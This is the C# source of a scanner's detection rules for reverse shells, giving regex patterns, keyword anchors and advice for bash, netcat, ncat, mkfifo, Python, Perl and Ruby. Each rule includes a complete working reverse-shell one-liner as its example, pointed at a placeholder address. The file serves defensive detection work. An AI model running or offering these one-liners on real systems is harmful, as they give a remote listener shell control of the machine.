namespace Symbiont.Scanning.Rules;

/// <summary>Shells that call out and wait for orders.</summary>
internal static class ReverseShellRules
{
    private const string Why = "Whoever listens at the other end types commands on this machine, past every firewall that only stops callers from outside.";
    private const string Repair = "Remove it. A tool that needs remote control uses a service that its operator runs and that checks who calls.";

    public static readonly ScanRule[] Rules =
    [
        Rule("bash", "Opens a shell to another machine through /dev/tcp or its redirections.", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            ["/dev/tcp", "/dev/udp", "sh -i", ">&", "<&"],
            new(@"(?:" + Fragments.Shell + @")\s+-i\b[^\n]*(?:/dev/(?:tcp|udp)/|[0-2&]?>&?\s*\d?\s*/dev/|<>\s*\S)"),
            new(@"\bexec\s+\d*\s*<>\s*[""']?/dev/(?:tcp|udp)/"),
            new(@"/dev/(?:tcp|udp)/[^\s;|&]+\s*(?:0>&1|0<&1|<&1|[12]>&1\s+0|0>&2)"),
            new("(?:" + Fragments.Shell + @")\s*(?:-i\s*)?(?:<&\s*\d+|0<&\d+)\s*[0-2]?>&\s*\d+"),
            new(@"\bsh\s+-i\b[^\n]*<\s*[""']?/dev/(?:tcp|udp)/|</dev/(?:tcp|udp)/[^\n]*\|\s*(?:" + Fragments.Shell + ")" + Fragments.End)),
        Rule("nc", "Hands a shell to a connection of netcat.", "nc -e /bin/sh 203.0.113.9 4444",
            ["nc", "netcat"],
            new(@"\b(?:nc|netcat|nc\.traditional|nc\.openbsd|nc64|nc\.exe)(?:\.exe)?\b[^\n;|]*\s-\w*[ec]\s*[""']?(?:" + Fragments.Shell + @"|cmd(?:\.exe)?)" + Fragments.End),
            new(@"\b(?:nc|netcat)\b[^\n;]*\|\s*(?:" + Fragments.Shell + @")\b[^\n;]*\|\s*(?:nc|netcat)\b"),
            new(@"\b(?:nc|netcat)\s+[^\n;|]*\d+\s*\|\s*(?:" + Fragments.Shell + ")" + Fragments.End),
            new(@"\b(?:nc|netcat)\s+-\w*l\w*\s[^\n;]*\|\s*(?:" + Fragments.Shell + ")" + Fragments.End)),
        Rule("ncat", "Hands a shell to a connection of ncat.", "ncat 203.0.113.9 4444 --exec /bin/bash",
            ["ncat"],
            new(@"\bncat(?:\.exe)?\b[^\n;|]*\s(?:-\w*[ec]|--exec|--sh-exec|--lua-exec)[\s=]*[""']?(?:" + Fragments.Shell + @"|cmd(?:\.exe)?|\S+)"),
            new(@"\bncat\b[^\n;]*\|\s*(?:" + Fragments.Shell + ")" + Fragments.End)),
        Rule("mkfifo", "Ties a shell to the network by a named pipe.", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
            ["mkfifo", "mknod"],
            new RulePattern(@"\b(?:mkfifo|mknod)\b[^\n]*")
            {
                Also = [@"\b(?:nc|ncat|netcat|telnet|socat)\b|openssl\s+s_client|/dev/(?:tcp|udp)/", "(?:" + Fragments.Shell + @")\s*(?:-i|<|0<|\||2>&1|>|[""'`])|\|\s*(?:" + Fragments.Shell + ")" + Fragments.End + @"|-e\s+\S*sh\b"],
                Within = 6,
            }),
        Rule("python", "A Python program ties a shell to a socket.", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
            ["socket", "pty.spawn", "dup2", ".connect", ".recv", "subprocess"],
            new(@"\bpython[\d.]*\s+-\w*c\b[^\n]*socket[^\n]*(?:dup2|subprocess|pty|os\.(?:system|popen|exec\w*))"),
            new(@"\.connect(?:_ex)?\s*\(") { Also = [@"\bdup2\s*\([^\n]*(?:fileno|\w+\s*,\s*[012f])", @"socket"], Within = 25 },
            new(@"\bsocket\b") { Also = [@"\.connect(?:_ex)?\s*\(", @"\bdup2\s*\(|\bpty\.spawn\s*\(", @"(?:/bin/)?(?:ba|z|k|da)?sh\b|\bpty\b|subprocess"], Within = 25 },
            new(@"\bpty\.spawn\s*\(") { Also = [@"\.connect\s*\(|/dev/tcp|socket"], Within = 25 },
            new(@"=\s*\w+\.recv\s*\(") { Also = [@"(?:subprocess\.(?:Popen|run|call|check_output|getoutput|getstatusoutput)|os\.(?:popen|system))\s*\(", @"\.send(?:all)?\s*\("], Within = 15 },
            new(@"\bsubprocess\.\w+\s*\([^\n]*std(?:in|out)\s*=\s*(?:\w*(?:sock|conn|client)\w*|s\d?)(?:\.fileno\(\))?\s*,[^\n]*std(?:in|out|err)\s*=")),
        Rule("perl", "A Perl program ties a shell to a socket.", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.9\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
            ["socket"],
            new(@"\bperl\b[^\n]*socket[^\n]*(?:\bexec\b|open\s*\(?\s*STD(?:IN|OUT)|\bsystem\b|fdopen|/bin/(?:ba)?sh|qx|`)"),
            new(@"\buse\s+(?:IO::)?Socket\b|\bIO::Socket::INET\b|\bsocket\s*\(\s*\w+\s*,\s*PF_INET") { Also = [@"open\s*\(?\s*STD(?:IN|OUT|ERR)\s*,?\s*[""'<>+&]+|->fdopen|\bexec\s*[({]?\s*[""'{]*\s*/bin/(?:ba|z)?sh|\bexec\s*\{[^\n]*sh"], Within = 25 }),
        Rule("ruby", "A Ruby program ties a shell to a socket.", "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
            ["tcpsocket", "rsocket", "socket.tcp"],
            new(@"\bruby\b[^\n]*(?:TCPSocket|Socket\.tcp)[^\n]*(?:\bexec\b|\bspawn\b|IO\.popen|\bsystem\b|/bin/(?:ba)?sh|`)"),
            new(@"\b(?:TCPSocket\.(?:new|open)|Socket\.tcp)\b") { Also = [@"\b(?:exec|spawn|system)\b[^\n]*(?:/bin/(?:ba|z)?sh|\bsh\b|\bcmd\b|gets)|IO\.popen\s*\(?|Open3\.\w+|\$stdin\.reopen|STDIN\.reopen"], Within = 20 }),
    ];

    private static ScanRule Rule(string name, string description, string example, string[] anchors, params RulePattern[] patterns) =>
        new(new($"reverse-shell-{name}", Categories.ReverseShells, Severity.Critical, description, Why, Repair), example)
        {
            Anchors = anchors,
            Patterns = patterns,
            Documented = Severity.High,
        };
}
